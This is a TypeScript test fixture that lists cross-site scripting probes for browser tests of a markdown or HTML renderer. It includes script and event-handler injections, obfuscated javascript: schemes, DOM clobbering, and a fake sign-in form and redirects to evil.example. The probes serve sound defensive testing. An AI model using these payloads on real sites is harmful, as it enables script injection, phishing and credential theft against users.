/** What a script would do that got into a page; browser tests look for it. */
const RUN = 'window.ran=1'

/** Raw HTML with scripts, events, forms, frames, and what parsers of HTML repair into such. */
const MARKUP = [
  `<script>${RUN}</script>`, '<SCRIPT SRC=/skills/demo/files/evil.js></SCRIPT>',
  `<script type=module>${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`, `<img src="x" onerror="${RUN}">`, `<img/src/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style><img src="</style><img src=x onerror=${RUN}>">`,
  "<style>@import '//evil.example/x.css';</style>", '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=prefetch href=//evil.example/x>',
  `<body onload=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}>`, `<audio src=x onerror=${RUN}>`, `<video><source onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`, `<iframe src="javascript:${RUN}">`,
  '<iframe srcdoc="<script>parent.ran=1</script>">', `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`, `<frameset onload=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href=//evil.example/>',
  '<form action=//evil.example><input type=password name=p><button>Sign in</button></form>',
  '<dialog open>Your session has ended</dialog>', '<button onclick=window.ran=1>x</button>',
  `<a href="javascript:${RUN}">x</a>`, `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<isindex type=image src=1 onerror=${RUN}>`, `<x contenteditable onblur=${RUN}>`,
  '<div style="position:fixed;inset:0;background:red">x</div>', '<form id=cookie name=cookie><input name=body>',
  '<img name=getElementById>', '<a id=documentElement name=documentElement>',
  `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x onclick=${RUN}>`, `<template><script>${RUN}</script></template>`,
  `<div><a href="javascript:${RUN}" autofocus onfocus=${RUN} tabindex=0>x`,
  `<portal src=//evil.example onload=${RUN}>`, `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`, `<title><img src=x onerror=${RUN}></title>`,
  `</div></main></body><script>${RUN}</script>`
]

/** Every known spelling of a scheme that runs. */
const SCHEMES = [
  'javascript:window.ran=1', 'JAVASCRIPT:window.ran=1', 'JaVaScRiPt:window.ran=1', ' javascript:window.ran=1',
  '&#106;avascript:window.ran=1', '&#x6A;avascript:window.ran=1',
  'java&#10;script:window.ran=1', 'java&#9;script:window.ran=1', 'java&Tab;script:window.ran=1',
  'java&NewLine;script:window.ran=1', 'javascript&colon;window.ran=1',
  '&#1;javascript:window.ran=1', 'java%73cript:window.ran=1', 'javascript%3Awindow.ran=1', 'vbscript:msgbox(1)',
  'data:text/html,x', 'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=window.ran=1>', 'blob:http://127.0.0.1/x', 'view-source:javascript:1',
  'feed:javascript:window.ran=1', 'filesystem:x', '\\u006aavascript:window.ran=1'
]

/** Texts that try to leave their place in the rendered page. */
const BREAKOUTS = [
  `[x](https://a.example "\\"onmouseover=${RUN} x=\\"")`, `[x](https://a.example '" onclick="${RUN}')`,
  `![" onerror="${RUN}](x.png)`, `![x](x.png" onerror="${RUN})`,
  '![x](//evil.example/x.png)', '![x](https://evil.example/x.png)', '```"><script>window.ran=1</script>\nx\n```',
  '```js" onmouseover="window.ran=1\nx\n```',
  '~~~<img src=x onerror=window.ran=1>\nx\n~~~', '`<script>window.ran=1</script>`',
  '    <script>window.ran=1</script>', `# <img src=x onerror=${RUN}>`, `# " onmouseover="${RUN}`,
  '# documentElement\n\n# body\n\n# __proto__',
  `|a|\n|:-|\n|<img src=x onerror=${RUN}>|`, `|a" onclick="${RUN}|\n|:-:|\n|x|`, `[x]: javascript:${RUN}\n\n[x]`,
  `[x]: <javascript:${RUN}> "t"\n\n![x]`, `<https://a.example/" onclick="${RUN}>`,
  `https://a.example/"onclick="${RUN}`, `- [x" onclick="${RUN}] y`, `> <script>${RUN}</script>`,
  `[a](javascript:x) [b](JAVASCRIPT:${RUN})`, `![x](javascript:${RUN})`
]

/** The probes together. */
export const PROBES: readonly string[] = [...MARKUP, ...SCHEMES.map((target) => `[x](${target})`), ...BREAKOUTS]
